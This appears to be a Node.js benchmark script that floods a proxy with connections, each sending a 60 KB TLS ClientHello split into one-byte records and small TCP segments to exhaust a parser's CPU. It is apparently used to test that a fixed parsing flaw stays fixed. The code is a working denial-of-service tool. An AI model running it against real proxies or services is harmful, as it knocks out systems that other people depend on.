// The benchmark's CPU attacker, run in the lab's VM namespace: `clients` connections at once,
// each a CONNECT to the listed name followed by a 60 KB ClientHello in one-byte TLS records (the
// attack of issue 24, item 4), written `chunk` bytes at a time (default 600: many small TCP
// segments, which is what made the old parser re-read from the start per chunk), re-opened as
// soon as the proxy closes it, until killed.
//   node proxy-attacker.mjs '{"host","port","name","clients","chunk"?}'

import net from 'node:net';

const c = JSON.parse(process.argv[2] ?? '{}');

// A 60 KB ClientHello for `name`, each byte of the handshake message in a record of its own.
function hostileHello(name) {
  const sni = Buffer.from(name, 'latin1');
  const u16 = (n) => Buffer.from([n >> 8, n & 255]);
  const ext = (type, data) => Buffer.concat([u16(type), u16(data.length), data]);
  const serverName = ext(0, Buffer.concat([u16(sni.length + 3), Buffer.from([0]), u16(sni.length), sni]));
  const padding = ext(0x15, Buffer.alloc(60_000));
  const extensions = Buffer.concat([serverName, padding]);
  const body = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32, 7), Buffer.from([0]), u16(2), Buffer.from([0x13, 0x01]), Buffer.from([1, 0]), u16(extensions.length), extensions]);
  const message = Buffer.concat([Buffer.from([1, body.length >> 16, (body.length >> 8) & 255, body.length & 255]), body]);
  const out = Buffer.alloc(message.length * 6);
  for (let i = 0; i < message.length; i++) out.set([22, 3, 1, 0, 1, message[i]], i * 6);
  return out;
}

const hello = hostileHello(c.name);
let sent = 0;
// One attacking connection, re-opened when it ends.
function attack() {
  const socket = net.connect({ host: c.host, port: c.port, noDelay: true });
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(attack, 10));
  socket.once('connect', () => socket.write(`CONNECT ${c.name}:443 HTTP/1.1\r\n\r\n`));
  socket.once('data', () => {
    sent++;
    const chunk = c.chunk ?? 600;
    // One piece per turn of the event loop, so each leaves as its own segment (no Nagle).
    const next = (at) => {
      if (at >= hello.length || socket.destroyed) return;
      socket.write(hello.subarray(at, at + chunk));
      setImmediate(next, at + chunk);
    };
    next(0);
  });
  socket.resume();
}
for (let i = 0; i < c.clients; i++) attack();
process.on('SIGTERM', () => { process.stdout.write(`${JSON.stringify({ attacks: sent })}\n`); process.exit(0); });
